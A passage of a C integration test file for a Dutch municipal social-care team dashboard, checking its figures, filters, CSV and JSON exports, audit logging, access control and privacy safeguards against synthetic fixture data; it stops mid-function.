/* test_dashboard.c - the team dashboard against the real server: a known
 * situation built in SQL (households with aanmeldingen, intakes and plans
 * on known dates, closed cases with reasons, purged households in
 * statistiek_archief, maatwerk with costs, a deactivated regisseur, safety
 * concerns) and every figure asserted exactly, with the filters, the lists
 * behind the figures, the CSV exports byte by byte and parsed back against
 * the API, no BSN or free text in any export, the audit rows, access, the
 * API's errors, and Mijn werk per role. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "http_client.h"
#include "testutil.h"

static struct test_server S;
static long long T, T_ZUID, G, G2, A, B, C, P1, P2, H[10];

#define db_int(...) ts_db_int(&S, __VA_ARGS__)
#define db_exec(...) ts_db_exec(&S, __VA_ARGS__)

/* A household in gebied g with regisseur reg (0: none), registered at
 * noon UTC of `opened` ("YYYY-MM-DD", or "-N" for N days ago). */
static long long household(const char *street, long long g, long long reg, const char *status, const char *opened,
                           const char *intake, const char *plan, const char *closed, const char *reason)
{
	char opened_sql[96], closed_sql[96], q_intake[16], q_plan[16], q_reason[24];
	if (opened[0] == '-')
		snprintf(opened_sql, sizeof opened_sql, "strftime('%%s','now') - %d * 86400", atoi(opened + 1));
	else
		snprintf(opened_sql, sizeof opened_sql, "strftime('%%s','%s 12:00:00')", opened);
	if (closed)
		snprintf(closed_sql, sizeof closed_sql, "strftime('%%s','%s 12:00:00')", closed);
	else
		snprintf(closed_sql, sizeof closed_sql, "NULL");
	snprintf(q_intake, sizeof q_intake, intake ? "'%s'" : "NULL", intake ? intake : "");
	snprintf(q_plan, sizeof q_plan, plan ? "'%s'" : "NULL", plan ? plan : "");
	snprintf(q_reason, sizeof q_reason, reason ? "'%s'" : "NULL", reason ? reason : "");
	char reg_sql[24], g_sql[24];
	snprintf(reg_sql, sizeof reg_sql, reg ? "%lld" : "NULL", reg);
	snprintf(g_sql, sizeof g_sql, g ? "%lld" : "NULL", g);
	if (db_exec("INSERT INTO huishouden(street, house_number, postcode, city, gebied_id, regisseur_id, status,"
	            " opened_at, closed_at, close_reason, intake_on, plan_vastgesteld_on) VALUES"
	            " ('%s', 1, '3861 AB', 'Nijkerk', %s, %s, '%s', %s, %s, %s, %s, %s)",
	            street, g_sql, reg_sql, status, opened_sql, closed_sql, q_reason, q_intake, q_plan) != 0)
		return -1;
	long long id = db_int("SELECT max(id) FROM huishouden");
	db_exec("INSERT INTO persoon(huishouden_id, bsn, first_name, last_name, birth_date, role) VALUES"
	        " (%lld, NULL, 'Bewoner', '%s', '1980-01-01', 'ouder')", id, street);
	return id;
}

static long long plan(long long hh, const char *status, const char *agreed, const char *next)
{
	if (db_exec("INSERT INTO plan(huishouden_id, status, agreed_on, agreed_how, next_evaluation, closed_on,"
	            " close_reason, created_by, created_at) VALUES (%lld, '%s', '%s', 'mondeling', '%s', %s, %s, %lld,"
	            " strftime('%%s','now'))", hh, status, agreed, next,
	            strcmp(status, "afgesloten") == 0 ? "'2025-03-10'" : "NULL",
	            strcmp(status, "afgesloten") == 0 ? "'doel_bereikt'" : "NULL", A) != 0)
		return -1;
	return db_int("SELECT id FROM plan WHERE huishouden_id = %lld", hh);
}

/* An aanvraag has no decision date yet (migration 0019). */
static void maatwerk(long long hh, long long aanbieder, const char *status, long long cents)
{
	db_exec("INSERT INTO voorziening(huishouden_id, kind, decision_date, legal_basis, aanbieder_id, product_id,"
	        " volume, unit, frequency, start_date, end_date, cost_cents, status, created_by, created_at) VALUES"
	        " (%lld, 'maatwerk', %s, 'wmo2015', %lld, (SELECT min(id) FROM product), 3, 'uur', 'per_week',"
	        " '2025-01-01', '2025-12-31', %lld, '%s', %lld, strftime('%%s','now'))", hh,
	        strcmp(status, "aangevraagd") == 0 ? "NULL" : "'2025-01-01'", aanbieder, cents, status, A);
}

static void setup(void)
{
	db_exec("INSERT INTO team(name) VALUES ('Team Test')");
	T = db_int("SELECT id FROM team WHERE name = 'Team Test'");
	T_ZUID = db_int("SELECT id FROM team WHERE name = 'Team Nijkerk-Zuid'");
	db_exec("INSERT INTO gebied(name) VALUES ('Testwijk'), ('Anderwijk')");
	G = db_int("SELECT id FROM gebied WHERE name = 'Testwijk'");
	G2 = db_int("SELECT id FROM gebied WHERE name = 'Anderwijk'");
	db_exec("INSERT INTO medewerker(username, name, roles, team_id, password_hash, active, created_at) VALUES"
	        " ('anna.test', 'Anna Test', 1, %lld, 'x', 1, 0), ('bert.test', 'Bert Test', 2, %lld, 'x', 1, 0),"
	        " ('carla.oud', 'Carla Oud', 1, %lld, 'x', 0, 0)", T, T, T);
	A = db_int("SELECT id FROM medewerker WHERE username = 'anna.test'");
	B = db_int("SELECT id FROM medewerker WHERE username = 'bert.test'");
	C = db_int("SELECT id FROM medewerker WHERE username = 'carla.oud'");

	H[1] = household("Eenstraat", G, A, "plan_actief", "2025-01-05", "2025-01-15", "2025-02-04", NULL, NULL);
	H[2] = household("Tweestraat", G, A, "in_behandeling", "2025-01-01", "2025-01-21", NULL, NULL, NULL);
	H[3] = household("Driestraat", G, A, "plan_actief", "2025-01-10", "2025-01-12", "2025-02-11", NULL, NULL);
	H[4] = household("Vierstraat", G, B, "afgesloten", "2024-12-01", "2025-01-31", "2025-02-20", "2025-03-10", "doel_bereikt");
	H[5] = household("Vijfstraat", G, C, "in_behandeling", "-10", NULL, NULL, NULL, NULL);
	H[6] = household("Zesstraat", G, 0, "aangemeld", "-3", NULL, NULL, NULL, NULL);
	H[7] = household("Zevenstraat", G2, 0, "aangemeld", "-40", NULL, NULL, NULL, NULL);
	H[8] = household("Achtstraat", G, A, "afgesloten", "2025-02-01", NULL, NULL, "2025-03-15", "uitstroom_lichter");
	plan(H[1], "vastgesteld", "2025-02-04", "2000-01-01");
	plan(H[3], "geevalueerd", "2025-02-11", "2999-01-01");
	plan(H[4], "afgesloten", "2025-02-20", "2000-01-01");
	/* H5 waits since its open aanmelding of 20 days ago; H6 carries a
	 * meldcode aanmelding of 3 days ago with a question that must stay out
	 * of every export. */
	db_exec("INSERT INTO aanmelding(huishouden_id, channel, medium, question, urgency, safety_concern, received_at,"
	        " created_by) VALUES (%lld, 'inwoner_zelf', 'balie', 'Vraag Vijf', 'normaal', 0,"
	        " strftime('%%s','now') - 20 * 86400, %lld),"
	        " (%lld, 'inwoner_zelf', 'balie', 'Geheime vraag XYZ', 'crisis', 1, strftime('%%s','now') - 3 * 86400, %lld)",
	        H[5], A, H[6], A);
	db_exec("INSERT INTO signaal(source_kind, about, concern, gebied_id, safety_concern, status, received_at, created_by)"
	        " VALUES ('buren', 'De buren van nummer 3', 'Geheime zorg XYZ', %lld, 1, 'nieuw', strftime('%%s','now') - 5 * 86400, %lld),"
	        " ('buren', 'Iemand', 'Afgesloten zorg', %lld, 1, 'afgesloten', strftime('%%s','now') - 9 * 86400, %lld),"
	        " ('school', 'Iemand', 'Geen veiligheid', %lld, 0, 'nieuw', strftime('%%s','now') - 9 * 86400, %lld)",
	        G, A, G, A, G, A);
	/* Two purged households of Team Test in Testwijk. */
	db_exec("INSERT INTO statistiek_archief(team_id, gebied_id, aangemeld_on, intake_on, plan_vastgesteld_on, closed_on,"
	        " close_reason, purged_at) VALUES (%lld, %lld, '2025-01-01', '2025-01-05', '2025-02-10', '2025-03-20',"
	        " 'doel_bereikt', 0), (%lld, %lld, '2025-01-02', '2025-01-30', NULL, '2025-02-15', 'verhuisd', 0)", T, G, T, G);
	/* Maatwerk: a provider whose name needs CSV quoting. */
	db_exec("INSERT INTO aanbieder(name, kind) VALUES ('Zorg Test BV', 'Thuiszorg'), ('Hulp; \"Quote\" BV', 'Begeleiding')");
	P1 = db_int("SELECT id FROM aanbieder WHERE name = 'Zorg Test BV'");
	P2 = db_int("SELECT id FROM aanbieder WHERE name LIKE 'Hulp;%%'");
	db_exec("INSERT INTO product(category, code, name, legal_basis) VALUES ('02', '02A01', 'Begeleiding', 'wmo2015')");
	maatwerk(H[1], P1, "toegekend", 123456);
	maatwerk(H[3], P1, "gestart", 100000);
	maatwerk(H[2], P2, "toegekend", 5050);
	maatwerk(H[1], P2, "aangevraagd", 99999);
}

static int get(struct agent *a, const char *path, struct http_resp *r)
{
	return agent_get(a, path, r);
}

static json_t *api(struct agent *a, const char *path, int *status)
{
	struct http_resp r;
	json_t *j = NULL;
	*status = agent_api(a, "GET", path, NULL, &r, &j);
	if (*status >= 0)
		http_resp_free(&r);
	return j;
}

static json_int_t jpath(json_t *o, const char *a, const char *b)
{
	return json_integer_value(json_object_get(json_object_get(o, a), b));
}

/* The row of month ym in an array of {maand, ...}. */
static json_t *month_row(json_t *arr, const char *ym)
{
	size_t i;
	json_t *row;
	json_array_foreach(arr, i, row)
		if (strcmp(json_string_value(json_object_get(row, "maand")), ym) == 0)
			return row;
	return NULL;
}

static void figures(struct agent *tl, char *q)
{
	int st;
	char path[512];
	snprintf(path, sizeof path, "/api/v1/dashboard?%s", q);
	json_t *d = api(tl, path, &st);
	CHECK(st == 200 && d, "API: the dashboard answers 200");
	if (!d)
		return;
	json_t *f = json_object_get(d, "filter");
	CHECK(json_integer_value(json_object_get(f, "team")) == T && json_integer_value(json_object_get(f, "gebied")) == G &&
	      strcmp(json_string_value(json_object_get(f, "van")), "2025-01") == 0,
	      "API: the filter comes back as applied");

	/* Caseload: Anna has H1, H2, H3 (H8 is closed); Carla is inactive. */
	json_t *cl = json_object_get(d, "caseload");
	CHECK_INT(json_array_size(cl), 2, "caseload: the two active case workers of the team, not the inactive one");
	json_t *anna = json_array_get(cl, 0), *bert = json_array_get(cl, 1);
	CHECK_STR(json_string_value(json_object_get(anna, "naam")), "Anna Test", "caseload: by name");
	CHECK(json_integer_value(json_object_get(anna, "huishoudens")) == 3 &&
	      json_integer_value(json_object_get(anna, "plan_actief")) == 2 &&
	      json_integer_value(json_object_get(anna, "evaluatie_verlopen")) == 1,
	      "caseload: Anna 3 households, 2 with an active plan, 1 overdue evaluation");
	CHECK(json_integer_value(json_object_get(bert, "huishoudens")) == 0, "caseload: Bert's only household is closed");

	/* Zonder regisseur in Testwijk: H5 (inactive regisseur, 20 days) and H6 (3 days). */
	json_t *z = json_object_get(d, "zonder_regisseur");
	CHECK_INT(json_integer_value(json_object_get(z, "aantal")), 2, "zonder regisseur: NULL and inactive regisseur");
	json_t *hh = json_object_get(z, "huishoudens");
	CHECK(json_array_size(hh) == 2 && json_integer_value(json_object_get(json_array_get(hh, 0), "huishouden_id")) == H[5] &&
	      json_integer_value(json_object_get(json_array_get(hh, 0), "wachtdagen")) == 20 &&
	      strcmp(json_string_value(json_object_get(json_array_get(hh, 0), "vorige_regisseur")), "Carla Oud") == 0,
	      "zonder regisseur: the deactivated regisseur's household waits longest, 20 days since its open aanmelding");
	json_t *ages = json_object_get(z, "leeftijd");
	CHECK(json_integer_value(json_object_get(json_array_get(ages, 0), "aantal")) == 1 &&
	      json_integer_value(json_object_get(json_array_get(ages, 1), "aantal")) == 0 &&
	      json_integer_value(json_object_get(json_array_get(ages, 2), "aantal")) == 1 &&
	      json_integer_value(json_object_get(json_array_get(ages, 3), "aantal")) == 0,
	      "zonder regisseur: age buckets 1 / 0 / 1 / 0");

	/* Safety: the signal (5 days) before the meldcode aanmelding (3 days). */
	json_t *v = json_object_get(d, "veiligheid");
	CHECK(json_array_size(v) == 2 && strcmp(json_string_value(json_object_get(json_array_get(v, 0), "soort")), "signaal") == 0 &&
	      strcmp(json_string_value(json_object_get(json_array_get(v, 1), "soort")), "aanmelding") == 0 &&
	      json_integer_value(json_object_get(json_array_get(v, 1), "huishouden_id")) == H[6],
	      "veiligheid: open signal and meldcode aanmelding, oldest first; closed and safe signals left out");

	/* Throughput, live and purged households together. */
	json_t *tp = json_object_get(d, "doorlooptijden");
	CHECK_INT(json_array_size(tp), 3, "doorlooptijden: one row per month of the period");
	json_t *jan = month_row(tp, "2025-01"), *feb = month_row(tp, "2025-02"), *mar = month_row(tp, "2025-03");
	CHECK(jpath(jan, "aanmelding_intake", "aantal") == 6 && jpath(jan, "aanmelding_intake", "mediaan") == 10 &&
	      jpath(jan, "aanmelding_intake", "p90") == 61,
	      "doorlooptijden: January aanmelding-intake n=6 (2 purged), median 10, p90 61");
	CHECK(jpath(feb, "intake_plan", "aantal") == 4 && jpath(feb, "intake_plan", "mediaan") == 20 &&
	      jpath(feb, "intake_plan", "p90") == 36, "doorlooptijden: February intake-plan n=4, median 20, p90 36");
	CHECK(jpath(feb, "aanmelding_plan", "aantal") == 4 && jpath(feb, "aanmelding_plan", "mediaan") == 32 &&
	      jpath(feb, "aanmelding_plan", "p90") == 81, "doorlooptijden: February aanmelding-plan n=4, median 32, p90 81");
	CHECK(jpath(mar, "aanmelding_intake", "aantal") == 0 && !json_object_get(json_object_get(mar, "aanmelding_intake"), "mediaan"),
	      "doorlooptijden: a month without steps has count 0 and no median");

	/* Providers. */
	json_t *pr = json_object_get(d, "aanbieders");
	CHECK(json_array_size(pr) == 2 &&
	      json_integer_value(json_object_get(json_array_get(pr, 1), "aantal")) == 2 &&
	      json_integer_value(json_object_get(json_array_get(pr, 1), "kosten_cents")) == 223456 &&
	      json_integer_value(json_object_get(json_array_get(pr, 0), "kosten_cents")) == 5050,
	      "aanbieders: active maatwerk only (toegekend, gestart), count and committed cost");

	/* Outflow. */
	json_t *out = json_object_get(d, "uitstroom");
	json_t *m3 = month_row(out, "2025-03"), *m2 = month_row(out, "2025-02");
	CHECK(json_integer_value(json_object_get(m3, "doel_bereikt")) == 2 &&
	      json_integer_value(json_object_get(m3, "uitstroom_lichter")) == 1 &&
	      json_integer_value(json_object_get(m3, "totaal")) == 3 &&
	      json_integer_value(json_object_get(m2, "verhuisd")) == 1 && json_integer_value(json_object_get(m2, "totaal")) == 1,
	      "uitstroom: March 2 doel bereikt (1 purged) + 1 uitstroom lichter; February 1 verhuisd (purged)");
	json_decref(d);

	/* Filters: another gebied, another team, a shorter period. */
	snprintf(path, sizeof path, "/api/v1/dashboard?team=%lld&gebied=%lld&van=2025-01&tot=2025-03", T, G2);
	d = api(tl, path, &st);
	CHECK(st == 200 && jpath(d, "zonder_regisseur", "aantal") == 1 &&
	      json_integer_value(json_object_get(json_array_get(json_object_get(json_object_get(d, "zonder_regisseur"),
	              "huishoudens"), 0), "wachtdagen")) == 40 &&
	      jpath(month_row(json_object_get(d, "doorlooptijden"), "2025-01"), "aanmelding_intake", "aantal") == 0,
	      "filter gebied: Anderwijk has only H7 (40 days since registration) and no throughput");
	json_decref(d);
	snprintf(path, sizeof path, "/api/v1/dashboard?team=%lld&gebied=%lld&van=2025-01&tot=2025-03", T_ZUID, G);
	d = api(tl, path, &st);
	CHECK(st == 200 && jpath(d, "zonder_regisseur", "aantal") == 1 &&
	      json_array_size(json_object_get(d, "aanbieders")) == 0 &&
	      json_integer_value(json_object_get(month_row(json_object_get(d, "uitstroom"), "2025-03"), "totaal")) == 0,
	      "filter team: another team sees the household without regisseur, not Team Test's figures");
	json_decref(d);
	snprintf(path, sizeof path, "/api/v1/dashboard?team=%lld&gebied=%lld&van=2025-02&tot=2025-02", T, G);
	d = api(tl, path, &st);
	CHECK(st == 200 && json_array_size(json_object_get(d, "doorlooptijden")) == 1 &&
	      json_array_size(json_object_get(d, "uitstroom")) == 1, "filter period: one month");
	json_decref(d);
}

static void page_and_lists(struct agent *tl, const char *q)
{
	struct http_resp r;
	char path[512], want[512];
	snprintf(path, sizeof path, "/team?%s", q);
	CHECK(get(tl, path, &r) == 200, "page: the dashboard opens");
	CHECK(http_body_has(&r, "<svg class=\"loket-chart\"") && http_body_has(&r, "role=\"img\"") &&
	      http_body_has(&r, "<title id=\"grafiek-caseload-titel\">"), "page: SVG charts with a title");
	snprintf(want, sizeof want, "href=\"/team/huishoudens?lijst=regisseur&amp;medewerker=%lld&amp;%s\">3</a>", A, "team=");
	CHECK(http_body_has(&r, "lijst=regisseur&amp;medewerker=") && http_body_has(&r, ">3</a>"),
	      "page: Anna's caseload figure links to its list");
	CHECK(http_body_has(&r, "€ 2.234,56") && http_body_has(&r, "€ 50,50"), "page: costs in euros with a decimal comma");
	CHECK(http_body_has(&r, "januari 2025") && http_body_has(&r, "Vijfstraat 1"), "page: months in Dutch, the longest waiting household");
	CHECK(http_body_has(&r, "/team/export/aanbieders.csv?team="), "page: export links carry the filter");
	http_resp_free(&r);

	/* The lists behind the figures. */
	snprintf(path, sizeof path, "/team/huishoudens?lijst=regisseur&medewerker=%lld&%s", A, q);
	CHECK(get(tl, path, &r) == 200 && http_body_has(&r, "Huishoudens met Anna Test als regisseur") &&
	      http_body_has(&r, "Eenstraat 1") && http_body_has(&r, "Tweestraat 1") && http_body_has(&r, "Driestraat 1") &&
	      !http_body_has(&r, "Achtstraat") && http_body_has(&r, "3 huishoudens"),
	      "list: Anna's households, the closed one left out");
	snprintf(want, sizeof want, "href=\"/huishoudens/%lld\"", H[1]);
	CHECK(http_body_has(&r, want), "list: each household links to its page");
	http_resp_free(&r);
	/* Issue 13 item 4: sortable by a column, the list and its filter kept. */
	snprintf(path, sizeof path, "/team/huishoudens?lijst=regisseur&medewerker=%lld&%s&sorteer=adres&sorteer_richting=af",
	         A, q);
	CHECK(get(tl, path, &r) == 200 && strstr(r.body, "Tweestraat 1") && strstr(r.body, "Driestraat 1") &&
	      strstr(r.body, "Eenstraat 1") && strstr(r.body, "Tweestraat 1") < strstr(r.body, "Driestraat 1") &&
	      strstr(r.body, "Eenstraat 1") < strstr(r.body, "Driestraat 1") &&
	      http_body_has(&r, "gesorteerd op Adres, aflopend") &&
	      http_body_has(&r, "href=\"/team/huishoudens?sorteer=adres&amp;sorteer_richting=op&amp;lijst=regisseur&amp;medewerker="),
	      "list: sorted by address Z to A, the header turning it round with the list kept");
	http_resp_free(&r);
	snprintf(path, sizeof path, "/team/huishoudens?lijst=evaluatie_verlopen&medewerker=%lld&%s", A, q);
	CHECK(get(tl, path, &r) == 200 && http_body_has(&r, "Eenstraat 1") && !http_body_has(&r, "Driestraat 1") &&
	      http_body_has(&r, ">1 huishouden</caption>"), "list: overdue evaluation");
	http_resp_free(&r);
	snprintf(path, sizeof path, "/team/huishoudens?lijst=zonder_regisseur&wacht=maand&%s", q);
	CHECK(get(tl, path, &r) == 200 && http_body_has(&r, "Vijfstraat 1") && !http_body_has(&r, "Zesstraat 1"),
	      "list: zonder regisseur, waiting 2 to 4 weeks");
	http_resp_free(&r);
	snprintf(path, sizeof path, "/team/huishoudens?lijst=stap&stap=aanmelding_intake&maand=2025-01&%s", q);
	CHECK(get(tl, path, &r) == 200 && http_body_has(&r, "4 huishoudens") && http_body_has(&r, "Vierstraat 1") &&
	      http_body_has(&r, "Daarnaast tellen 2 huishoudens"),
	      "list: intakes in January, live ones listed and the 2 purged ones mentioned");
	http_resp_free(&r);
	snprintf(path, sizeof path, "/team/huishoudens?lijst=uitstroom&maand=2025-03&reden=doel_bereikt&%s", q);
	CHECK(get(tl, path, &r) == 200 && http_body_has(&r, "Vierstraat 1") && !http_body_has(&r, "Achtstraat 1") &&
	      http_body_has(&r, "Daarnaast telt 1 huishouden mee"), "list: outflow by reason");
	http_resp_free(&r);
	snprintf(path, sizeof path, "/team/huishoudens?lijst=aanbieder&aanbieder=%lld&%s", P1, q);
	CHECK(get(tl, path, &r) == 200 && http_body_has(&r, "Zorg Test BV") && http_body_has(&r, "Eenstraat 1") &&
	      http_body_has(&r, "Driestraat 1") && !http_body_has(&r, "Tweestraat 1"), "list: households of a provider");
	http_resp_free(&r);
	CHECK(get(tl, "/team/huishoudens?lijst=stap&maand=2025-13", &r) == 422 && http_body_has(&r, "Kies een stap.") &&
	      http_body_has(&r, "Vul een maand in"), "list: a broken link is a Dutch 422");
	http_resp_free(&r);
	CHECK(get(tl, "/team/huishoudens?lijst=regisseur&medewerker=999999", &r) == 422 &&
	      http_body_has(&r, "Kies een bestaande medewerker."), "list: an unknown employee is refused");
	http_resp_free(&r);

	/* The filter form refuses bad input at the field, input kept. */
	CHECK(get(tl, "/team?van=maart&tot=2025-03", &r) == 422 && http_body_has(&r, "Vul een maand in als 2026-03") &&
	      http_body_has(&r, "value=\"maart\"") && http_body_has(&r, "aria-invalid=\"true\""),
	      "page: a bad month is refused at the field with the input kept");
	CHECK(!http_body_has(&r, "0000-") && !http_body_has(&r, "januari 0000"),
	      "page: around the error the period line still says a real period");
	http_resp_free(&r);
	CHECK(get(tl, "/team", &r) == 200 && http_body_has(&r, "<option value=\"1\" selected>Team Nijkerk-Noord</option>"),
	      "page: by default the teamleider's own team");
	http_resp_free(&r);
}

/* Splits a CSV line without quoted fields into at most n fields. */
static int split(char *line, char **f, int n)
{
	int k = 0;
	f[k++] = line;
	for (char *p = line; *p && k < n; p++)
		if (*p == ';') {
			*p = '\0';
			f[k++] = p + 1;
		}
	return k;
}

static void exports(struct agent *tl, const char *q)
{
	struct http_resp r;
	char path[512], buf[256];
	snprintf(path, sizeof path, "/team/export/aanbieders.csv?%s", q);
	CHECK(get(tl, path, &r) == 200, "export: aanbieders.csv");
	CHECK(http_header(&r, "Content-Type", buf, sizeof buf) && strcmp(buf, "text/csv; charset=utf-8") == 0,
	      "export: CSV content type");
	CHECK(http_header(&r, "Content-Disposition", buf, sizeof buf) &&
	      strcmp(buf, "attachment; filename=\"dashboard-aanbieders-2025-01-2025-03.csv\"") == 0,
	      "export: attachment with a file name");
	static const char expect[] =
		"\xEF\xBB\xBF" "Aanbieder;Actieve maatwerkvoorzieningen;Toegezegde kosten (euro)\r\n"
		"\"Hulp; \"\"Quote\"\" BV\";1;50,50\r\n"
		"Zorg Test BV;2;2234,56\r\n";
	CHECK(r.body_len == sizeof expect - 1 && memcmp(r.body, expect, r.body_len) == 0,
	      "export: CSV byte by byte: BOM, ';', quoting, decimal comma, CRLF");
	http_resp_free(&r);

	/* CSV parsed back equals the API. */
	int st;
	snprintf(path, sizeof path, "/api/v1/dashboard?%s", q);
	json_t *d = api(tl, path, &st);
	snprintf(path, sizeof path, "/team/export/doorlooptijden.csv?%s", q);
	CHECK(get(tl, path, &r) == 200 && memcmp(r.body, "\xEF\xBB\xBF", 3) == 0, "export: doorlooptijden.csv");
	int rows = 0, same = 0;
	char *text = strndup(r.body + 3, r.body_len - 3);
	char *save = NULL;
	static const char *const steps[3] = {"aanmelding_intake", "intake_plan", "aanmelding_plan"};
	for (char *line = strtok_r(text, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		size_t n = strlen(line);
		if (n && line[n - 1] == '\r')
			line[n - 1] = '\0';
		char *f[10];
		if (split(line, f, 10) != 10 || strncmp(f[0], "Maand", 5) == 0)
			continue;
		rows++;
		json_t *m = month_row(json_object_get(d, "doorlooptijden"), f[0]);
		bool ok = m != NULL;
		for (int s = 0; ok && s < 3; s++) {
			json_t *c = json_object_get(m, steps[s]);
			ok = atoll(f[1 + s * 3]) == json_integer_value(json_object_get(c, "aantal")) &&
			     (json_object_get(c, "mediaan") ? atoll(f[2 + s * 3]) == json_integer_value(json_object_get(c, "mediaan"))
			                                    : f[2 + s * 3][0] == '\0') &&
			     (json_object_get(c, "p90") ? atoll(f[3 + s * 3]) == json_integer_value(json_object_get(c, "p90"))
			                                : f[3 + s * 3][0] == '\0');
		}
		same += ok;
	}
	CHECK(rows == 3 && same == 3, "export: doorlooptijden CSV parses back to the API's figures (%d/%d rows)", same, rows);
	free(text);
	http_resp_free(&r);
	snprintf(path, sizeof path, "/team/export/caseload.csv?%s", q);
	CHECK(get(tl, path, &r) == 200 && http_body_has(&r, "\r\nAnna Test;Team Test;3;2;1\r\nBert Test;Team Test;0;0;0\r\n"),
	      "export: caseload CSV rows equal the figures");
	http_resp_free(&r);
	snprintf(path, sizeof path, "/team/export/uitstroom.csv?%s", q);
	CHECK(get(tl, path, &r) == 200 && http_body_has(&r, "\r\n2025-03;2;1;0;0;0;3\r\n"),
	      "export: uitstroom CSV row for March");
	http_resp_free(&r);
	snprintf(path, sizeof path, "/team/export/caseload.json?%s", q);
	json_t *j = NULL;
	CHECK(get(tl, path, &r) == 200 && (j = json_loads(r.body, 0, NULL)) &&
	      json_equal(json_object_get(j, "rijen"), json_object_get(d, "caseload")) &&
	      http_header(&r, "Content-Disposition", buf, sizeof buf) && strstr(buf, "dashboard-caseload-2025-01-2025-03.json"),
	      "export: caseload.json equals the API's caseload, as an attachment");
	json_decref(j);
	http_resp_free(&r);
	json_decref(d);
	CHECK(get(tl, "/team/export/caseload.xlsx", &r) == 404, "export: an unknown format is 404");
	http_resp_free(&r);

	/* No BSN and no free text in any export. */
	db_exec("UPDATE persoon SET bsn = '111222333' WHERE huishouden_id = %lld", H[6]);
	db_exec("UPDATE persoon SET bsn = '044444449' WHERE huishouden_id = %lld", H[5]);
	static const char *const tables[] = {"caseload", "zonder-regisseur", "veiligheid", "doorlooptijden", "aanbieders", "uitstroom",
	                                     "verwijsstromen"};
	int clean = 0, total = 0;
	for (size_t t = 0; t < 7; t++)
		for (int fmt = 0; fmt < 2; fmt++) {
			snprintf(path, sizeof path, "/team/export/%s.%s?team=alle&van=2025-01&tot=2025-03", tables[t], fmt ? "json" : "csv");
			total++;
			if (get(tl, path, &r) == 200 && !http_body_has(&r, "111222333") && !http_body_has(&r, "044444449") &&
			    !http_body_has(&r, "725763863") && !http_body_has(&r, "Geheime vraag XYZ") &&
			    !http_body_has(&r, "Geheime zorg XYZ") && !http_body_has(&r, "De buren van nummer 3"))
				clean++;
			http_resp_free(&r);
		}
	CHECK(clean == total && total == 14, "export: none of the 14 exports holds a BSN or free text (%d/%d)", clean, total);
	CHECK(db_int("SELECT count(*) FROM audit WHERE action = 'dashboard.export' AND object_type = 'aanbieders'"
	             " AND reason = 'dashboard-aanbieders-2025-01-2025-03.csv; team %lld; gebied %lld; 2025-01 t/m 2025-03'",
	             T, G) == 1,
	      "audit: the CSV export is logged with its table and file name");
	CHECK(db_int("SELECT count(*) FROM audit WHERE action = 'dashboard.export'") == 19,
	      "audit: every export is logged (19: the 5 before and the 14 above)");
}

static void access_and_api_errors(void)
{
	struct agent cons, tl;
	struct http_resp r;
	CHECK(agent_sign_in(&cons, &S, U_CONSULENT) && agent_sign_in(&tl, &S, U_TEAMLEIDER), "sign in for access checks");
	CHECK(get(&cons, "/team", &r) == 403, "access: a consulent gets 403 on /team");
	http_resp_free(&r);
	CHECK(get(&cons, "/team/export/caseload.csv", &r) == 403, "access: a consulent cannot export");
	http_resp_free(&r);
	int st;
	json_t *j = api(&cons, "/api/v1/dashboard", &st);
	CHECK(st == 403 && strcmp(json_string_value(json_object_get(json_object_get(j, "error"), "code")), "forbidden") == 0,
	      "API: 403 forbidden for a consulent");
	json_decref(j);
	static const struct {
		const char *query, *field, *message;
	} bad[] = {
		{"team=abc", "team", "Kies een bestaand team of alle teams."},
		{"team=999999", "team", "Kies een bestaand team of alle teams."},
		{"gebied=999999", "gebied", "Kies een bestaand gebied."},
		{"gebied=x", "gebied", "Kies een geldige waarde."},
		{"van=2025-13", "van", "Vul een maand in als 2026-03 (jaar en maand)."},
		{"van=2025-05&tot=2025-01", "tot", "De laatste maand ligt vóór de eerste maand."},
		{"van=2020-01&tot=2025-01", "van", "Kies een periode van hoogstens 36 maanden."},
	};
	for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
		char path[128];
		snprintf(path, sizeof path, "/api/v1/dashboard?%s", bad[i].query);
		j = api(&tl, path, &st);
		json_t *e = json_object_get(j, "error");
		const char *msg = json_string_value(json_object_get(json_object_get(e, "fields"), bad[i].field));
		CHECK(st == 422 && strcmp(json_string_value(json_object_get(e, "code")), "validation_failed") == 0 && msg &&
		      strcmp(msg, bad[i].message) == 0, "API: %s -> 422 with \"%s\" at %s", bad[i].query, bad[i].message,
		      bad[i].field);
		json_decref(j);
	}
	j = api(&tl, "/api/v1/dashboard?team=1&team=2", &st);
	CHECK(st == 400, "API: a duplicate parameter is 400");
	json_decref(j);
	j = api(&tl, "/api/v1/dashboard", &st);
	CHECK(st == 200 && json_integer_value(json_object_get(json_object_get(j, "filter"), "team")) ==
	      db_int("SELECT team_id FROM medewerker WHERE username = 'teamleider'"),
	      "API: without filters the teamleider's own team");
	{
		const char *van = json_string_value(json_object_get(json_object_get(j, "filter"), "van"));
		const char *tot = json_string_value(json_object_get(json_object_get(j, "filter"), "tot"));
		long long now_ym = db_int("SELECT CAST(strftime('%%Y%%m', 'now', 'localtime') AS INTEGER)");
		long long tot_ym = tot ? atoll(tot) * 100 + atoll(tot + 5) : 0, van_ym = van ? atoll(van) * 100 + atoll(van + 5) : 0;
		long long want_van = (now_ym / 100 * 12 + now_ym % 100 - 1 - 11) / 12 * 100 + (now_ym / 100 * 12 + now_ym % 100 - 1 - 11) % 12 + 1;
		CHECK(tot_ym == now_ym && van_ym == want_van, "API: by default the last 12 months up to this one (%s to %s)",
		      van ? van : "?", tot ? tot : "?");
	}
	json_decref(j);
	j = api(&tl, "/api/v1/dashboard?team=alle", &st);
	CHECK(st == 200 && json_is_null(json_object_get(json_object_get(j, "filter"), "team")) &&
	      json_integer_value(json_object_get(json_object_get(j, "zonder_regisseur"), "aantal")) ==
	      db_int("SELECT count(*) FROM huishouden h LEFT JOIN medewerker m ON m.id = h.regisseur_id"
	             " WHERE h.status <> 'afgesloten' AND (h.regisseur_id IS NULL OR m.active = 0)"),
	      "API: alle teams counts every household without (active) regisseur");
	json_decref(j);
}

static void mijn_werk(void)
{
	long long cons = db_int("SELECT id FROM medewerker WHERE username = 'consulent'");
	long long hh = household("Werkstraat", G, cons, "plan_actief", "2025-01-01", "2025-01-02", "2025-01-03", NULL, NULL);
	long long p = plan(hh, "vastgesteld", "2025-01-03", "2000-02-03");
	long long pers = db_int("SELECT id FROM persoon WHERE huishouden_id = %lld", hh);
	db_exec("INSERT INTO doel(plan_id, domain, wish, target_date, created_by, created_at) VALUES"
